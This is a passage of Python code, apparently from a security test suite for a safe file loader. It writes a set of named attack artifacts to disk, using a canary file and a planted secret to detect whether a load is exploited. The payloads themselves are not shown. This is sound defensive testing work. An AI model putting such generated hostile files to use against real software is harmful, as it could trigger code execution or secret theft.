    for attack in ATTACKS:
        if attack.name == name:
            return attack
    raise KeyError(name)


def write_all(folder: Path, trace: Trace) -> dict[str, Path]:
    """Write every artifact into ``folder`` (file names carry no format hint); returns name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for attack in ATTACKS:
        path = folder / f"{attack.name}.bin"
        path.write_bytes(attack.build(trace))
        paths[attack.name] = path
    return paths


if __name__ == "__main__":  # pragma: no cover - manual inspection aid
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "attack-artifacts")
    demo = Trace(out / "CANARY", 9, "SAFELOAD_ATTACK_SECRET", out / "secret.txt")
    for name, path in write_all(out, demo).items():
        print(f"{path}  {by_name(name).description}")
